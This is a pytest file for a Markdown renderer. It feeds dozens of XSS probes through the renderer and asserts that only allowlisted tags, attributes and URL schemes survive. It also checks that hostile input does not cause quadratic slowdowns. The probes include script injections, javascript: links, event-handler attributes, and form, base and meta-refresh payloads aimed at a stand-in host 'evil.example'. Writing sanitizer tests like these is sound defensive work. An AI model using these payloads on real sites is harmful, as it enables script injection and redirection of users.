"""Markdown that means harm: nothing of it reaches the page, and it takes no longer than it is."""

import time
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from content.elements import MOST_TAGS
from content.reader import read_chapter
from content.rendering import render, render_inline
from tests.content.pages import Tags, known, pictured

# What must not get through

PROBES = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](a.png)',
    '[x](a.md "t\\" onclick=\\"alert(1)")',
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<style>@import '//evil.example'</style>",
    "<form action=//evil.example><input name=q><button>Go</button></form>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<details ontoggle=alert(1) open><summary onclick=alert(1)>x</summary></details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<p><table><tr><td background='javascript:alert(1)'>x</td></tr></table>",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x onmouseover=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "- [ ] <img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<a id=login name=login href=# target=_blank>x</a><h3 id=csrfmiddlewaretoken>y</h3>",
    "<span class='link-missing topbar'>x</span><img class=k src=a.png srcset='//evil.example 2x'>",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 <b>x</b>",
    "<https://a.b/'onclick='alert(1)>",
    "<b>x</b><template><script>alert(1)</script></template>",
]  # fmt: skip

ALLOWED = {
    "a": {"class", "href", "rel", "title"},
    "abbr": {"title"},
    "aside": {"class"},
    "details": {"open"},
    "div": {"aria-labelledby", "class", "data-lang", "role", "tabindex"},
    "img": {"alt", "loading", "src"},
    "input": {"aria-labelledby", "checked", "disabled", "type"},
    "li": {"class", "id", "value"},
    "ol": {"reversed", "start"},
    "p": {"class"},
    "pre": {"tabindex"},
    "section": {"class"},
    "span": {"aria-label", "class", "role"},
    "sup": {"class", "id"},
    "td": {"align", "colspan", "rowspan"},
    "th": {"align", "colspan", "rowspan", "scope"},
}
NEVER = {"base", "button", "embed", "form", "iframe", "link", "math", "meta", "object", "script",
         "select", "style", "svg", "template", "textarea", "video"}  # fmt: skip
CLASSES = {"callout", "callout-note", "callout-title", "code", "figure-missing", "footnote-back",
           "footnote-mark", "footnotes", "k", "link-missing", "table-scroll",
           "task-list-item"}  # fmt: skip


def _assert_harmless(html: str, *, scope: str = "") -> None:
    for tag, attributes in Tags(html).tags:
        assert tag not in NEVER
        assert set(attributes) <= ALLOWED.get(tag, {"id"} if tag[0] == "h" else set()), (tag, html)
        assert set((attributes.get("class") or "").split()) <= CLASSES
        identity = attributes.get("id") or ""
        assert not identity or identity.startswith(("fn-", "fnref-")), html
        href = attributes.get("href") or "#"
        assert href.startswith(("#", "/here/", "http://", "https://", "mailto:")), html
        assert (attributes.get("src") or "/here/").startswith("/here/"), html
        assert tag != "input" or (attributes["type"] == "checkbox" and "disabled" in attributes)


@pytest.mark.parametrize("probe", PROBES)
def test_nothing_harmful_gets_through(probe: str) -> None:
    for text in (
        probe,
        f"oak {probe}",
        f"- oak\n\n  {probe}",
        f"> {probe}",
        f"<div>\n{probe}\n</div>",
    ):
        _assert_harmless(render(text, link=known, image=pictured))
        _assert_harmless(render_inline(text, link=known, image=pictured))


def test_ids_are_the_texts_own_headings_and_footnotes() -> None:
    html = render('<h3 id="login">x</h3>\n\n#### Oak\n\n<li id="fn-1">y</li>', anchors=["oak"])
    assert [a["id"] for _, a in Tags(html).tags if "id" in a] == ["oak"]


_PIECES = st.sampled_from(
    [*PROBES, "<", ">", "&", '"', "'", "`", "```\n", "[", "](", ")", "![", "<a href=", "<!--",
     "-->", "<b>", "</div>", "\n", "\n\n", "- ", "> ", "    ", "|", "|-|\n", "[^1]", "[^1]: ", "*",
     "\\", "#"]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(_PIECES, max_size=12).map("".join))
def test_no_mixture_of_probes_gets_through(text: str) -> None:
    _assert_harmless(render(text, link=known, image=pictured))
    _assert_harmless(render_inline(text, link=known, image=pictured))


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_any_text_renders(text: str) -> None:
    _assert_harmless(render(text, link=known, image=pictured))


# What must not take long: four times the text may take eight times as long, not sixteen

HOSTILE = ["[", "![", "[a](", "[a](b) ", "*", "*a ", "**a *b ", "_a", "~~a ", "`", "` ", "<", "<a ",
           "<!--", "<b><i>", "<div>\n\n", "> ", ">", "- ", "1. ", "> - ", "|a", "&", "&#", "\\",
           "a\n-\n", "- a\n", "[a]: b\n", "[a]: b '\n", "[^1]: a\n", "```\n", "https://a.b/) ",
           ":a", "a  \n", "\t", "![a](b)\n\n", "# a\n", "# Quiz\n# Answers\n",
           "```js\n/a\n```\n"]  # fmt: skip


def _seconds(work: Callable[[str], object], text: str) -> float:
    start = time.process_time()
    work(text)
    return time.process_time() - start


@pytest.mark.growth
@pytest.mark.parametrize("piece", HOSTILE)
def test_hostile_text_takes_time_by_its_length_alone(piece: str) -> None:
    for work in (render, lambda text: read_chapter(text, path="a.md")):
        short, long = ((piece * size)[:size] for size in (30_000, 120_000))
        # A guard against quadratic growth, not a measurement: one calm try of five is enough.
        assert any(_seconds(work, long) < 8 * _seconds(work, short) + 1 for _try in range(5))


def test_more_tags_than_anybody_writes_are_text() -> None:
    html = render("<div>\n\n" * (MOST_TAGS + 10))
    assert html.count("<div>") == MOST_TAGS
    assert html.count("&lt;div&gt;") == 10


def test_a_long_line_in_a_list_item_is_kept() -> None:
    words = "*a* " * 3_000
    assert words.strip() in render(f"- {words}")
